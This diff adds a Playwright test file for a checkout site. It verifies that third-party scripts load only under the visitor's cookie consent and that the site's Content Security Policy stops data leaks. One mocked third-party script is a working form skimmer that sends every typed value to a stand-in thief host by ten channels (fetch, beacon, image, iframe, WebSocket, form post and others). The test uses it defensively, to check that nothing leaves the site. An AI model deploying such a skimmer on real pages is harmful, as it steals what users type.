@@ -1,0 +1,219 @@
+import type { BrowserContext, Route } from '@playwright/test'
+import type { Consent } from '../contract/consent.ts'
+import { startServer } from '../tests/support/server-process.ts'
+import { CheckoutPage } from './models/checkout-page.ts'
+import { Cookies } from './models/cookies.ts'
+import { test as base, expect } from './models/fixtures.ts'
+import { maria } from './models/person.ts'
+import { SiteCopy } from './models/site-copy.ts'
+import { noteBodies } from './models/wire.ts'
+
+const scripts = {
+  webCare: 'https://webcare.exemplo.com.br/w.js',
+  fingerprint: 'https://aparelho.exemplo.com.br/f.js',
+  preferences: 'https://preferencias.exemplo.com.br/p.js',
+  /** That of the campaign `livelo`, which stands in its content. */
+  partner: 'https://pontos.exemplo.com.br/rastreio.js',
+} as const
+type Party = keyof typeof scripts
+
+/** What each is to the server. */
+const kinds = {
+  webCare: 'web-care',
+  fingerprint: 'fingerprint',
+  preferences: 'preferences',
+  partner: 'partner',
+} as const satisfies Readonly<Record<Party, string>>
+
+const originOf = (party: Party): string => new URL(scripts[party]).origin
+const thief = 'https://ladrao.exemplo.com.br'
+
+/** A site built with the scripts of others, and a server that allows them. */
+const test = base.extend<object, { addressed: string }>({
+  addressed: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the fixtures wanted off the pattern
+    async ({}, use) => {
+      const site = new SiteCopy()
+      site.setAddresses({
+        VITE_WEBCARE_URL: scripts.webCare,
+        VITE_FINGERPRINT_URL: scripts.fingerprint,
+        VITE_PREFERENCES_URL: scripts.preferences,
+      })
+      const allowed = (Object.keys(scripts) as Party[])
+        .map((party) => `${kinds[party]}=${originOf(party)}`)
+        .join(',')
+      const server = await startServer({ env: { SITE_DIR: site.folder, THIRD_PARTIES: allowed } })
+      await use(server.url)
+      await server.stop()
+      site.remove()
+    },
+    { scope: 'worker' },
+  ],
+  checkout: async ({ page, addressed }, use) => {
+    await use(new CheckoutPage(page, addressed, maria))
+  },
+})
+
+type Conduct = (route: Route) => Promise<void>
+
+const says =
+  (body: string): Conduct =>
+  (route) =>
+    route.fulfill({ contentType: 'text/javascript', body })
+const hangs: Conduct = () => new Promise(() => undefined)
+const isBlocked: Conduct = (route) => route.abort('blockedbyclient')
+
+/** What each script of others does; whatever is none of theirs must not be asked for at all. */
+const allow = async (context: BrowserContext, conduct: Readonly<Record<Party, Conduct>>) => {
+  const asked: { readonly party: Party; readonly url: string; readonly referer: string | undefined }[] = []
+  for (const party of Object.keys(scripts) as Party[]) {
+    await context.route(`${originOf(party)}/**`, (route) => {
+      asked.push({ party, url: route.request().url(), referer: route.request().headers().referer })
+      return conduct[party](route)
+    })
+  }
+  return asked
+}
+
+const calm: Readonly<Record<Party, Conduct>> = {
+  webCare: says('window.webcare = () => undefined'),
+  fingerprint: says('window.hdim_payload = "h"'),
+  preferences: says('window.user_prefs2 = "p"'),
+  partner: says(''),
+}
+
+const device: readonly Party[] = ['fingerprint', 'preferences']
+
+/** Whom a page may ask, by the visitor's choice. */
+const asksAt = (path: string, consent: Consent | null): readonly Party[] => {
+  const isFunc = consent === 'func' || consent === 'both'
+  const isPubli = consent === 'publi' || consent === 'both'
+  return [
+    ...(isFunc || isPubli ? (['webCare'] as const) : []),
+    ...(isFunc ? device : []),
+    ...(isPubli && path === '/livelo/' ? (['partner'] as const) : []),
+  ]
+}
+
+for (const consent of [null, 'denied', 'func', 'publi', 'both'] as const) {
+  test.describe(`with the choice ${consent ?? 'still to come'}`, () => {
+    test.use({ consent })
+
+    test('each page asks those whom the table of purposes allows, and tells them no more than the site', async ({
+      context,
+      page,
+      addressed,
+    }) => {
+      const asked = await allow(context, calm)
+      const cookies = new Cookies(page)
+      for (const path of ['/', '/livelo/', '/checkout/cep/', '/livelo/checkout/cep/']) {
+        asked.length = 0
+        cookies.origins.clear()
+        await page.goto(`${addressed}${path}?l=AAAAAAAAAAAAAAAAAAAAAA&utm_source=x&gclid=y`)
+        const due = asksAt(path, consent)
+        await expect.poll(() => asked.length).toBe(due.length)
+        await page.waitForLoadState('networkidle')
+        expect(asked.map(({ party }) => party).toSorted(), path).toEqual(due.toSorted())
+        expect([...cookies.origins].toSorted(), path).toEqual([addressed, ...due.map(originOf)].toSorted())
+        for (const { party, url, referer } of asked) {
+          expect([undefined, `${addressed}/`], path).toContain(referer)
+          const told = party === 'partner' ? `?url=${encodeURIComponent(addressed + path)}` : ''
+          expect(url).toBe(scripts[party] + told)
+        }
+      }
+    })
+  })
+}
+
+/** A script that looks for what is typed and carries it off in every way there is. */
+const stealing = `
+  addEventListener('input', ({ target }) => {
+    const loot = '${thief}/?' + encodeURIComponent(target.value)
+    const attempts = [
+      () => fetch(loot, { mode: 'no-cors', keepalive: true }).catch(() => undefined),
+      () => navigator.sendBeacon(loot, target.value),
+      () => { new Image().src = loot },
+      () => { document.body.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: loot })) },
+      () => { document.body.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: loot })) },
+      () => { document.body.append(Object.assign(document.createElement('iframe'), { src: loot })) },
+      () => new WebSocket(loot.replace('https', 'wss')),
+      () => new EventSource(loot),
+      () => {
+        const form = Object.assign(document.createElement('form'), { action: loot, method: 'post', target: '_blank' })
+        document.body.append(form)
+        form.submit()
+      },
+      () => { document.body.append(Object.assign(document.createElement('script'), { src: loot })) },
+    ]
+    for (const attempt of attempts) try { attempt() } catch (_) {}
+  })
+  window.webcare = () => undefined`
+
+const ways = {
+  'one that steals, one that hangs and one that is blocked': {
+    ...calm,
+    webCare: says(stealing),
+    fingerprint: hangs,
+    preferences: isBlocked,
+  },
+  'one that fails at each call, one that fails while it loads and one whose server fails': {
+    ...calm,
+    webCare: says('window.webcare = () => { throw new Error("web-care") }'),
+    fingerprint: says('throw new Error("fingerprint")'),
+    preferences: (route: Route) => route.fulfill({ status: 500, body: '' }),
+  },
+  'a fingerprint that never comes': { ...calm, fingerprint: says(''), preferences: says('') },
+} as const satisfies Readonly<Record<string, Readonly<Record<Party, Conduct>>>>
+
+for (const [what, conduct] of Object.entries(ways)) {
+  test.describe(`scripts of others: ${what}`, () => {
+    test.use({ consent: 'both' })
+
+    test('the purchase ends on an order, without device data, and nothing typed leaves the site', async ({
+      context,
+      page,
+      checkout,
+    }) => {
+      const stolen: string[] = []
+      await context.route(/ladrao\.exemplo/, (route) => {
+        stolen.push(route.request().url())
+        return route.abort()
+      })
+      const violations: string[] = []
+      await page.exposeFunction('noteViolation', (directive: string) => violations.push(directive))
+      await page.addInitScript(() =>
+        addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          (window as unknown as { noteViolation: (told: string) => void }).noteViolation(effectiveDirective),
+        ),
+      )
+      const warnings: string[] = []
+      page.on('console', (message) => {
+        if (message.type() === 'warning') warnings.push(message.text())
+      })
+      const asked = await allow(context, conduct)
+      const bodies = await noteBodies(page)
+      await checkout.choosePlan()
+      await checkout.answerUntil('confirmacao')
+      expect(await checkout.placeOrder()).toMatch(/^\d{11}$/)
+      expect(asked.map(({ party }) => party)).toContain('fingerprint')
+      expect(stolen).toEqual([])
+      expect(new Set(violations)).toEqual(
+        new Set(
+          conduct.webCare === ways['a fingerprint that never comes'].webCare || !what.includes('steals')
+            ? []
+            : [
+                'connect-src',
+                'img-src',
+                'style-src-elem',
+                'frame-src',
+                'form-action',
+                'require-trusted-types-for',
+                'default-src',
+              ],
+        ),
+      )
+      const [bank] = (await bodies()).filter(({ path }) => path.endsWith('/bankInfo'))
+      expect(Object.keys(bank?.body as object)).toEqual(['direct_debit', 'bankInfo'])
+    })
+  })
+}
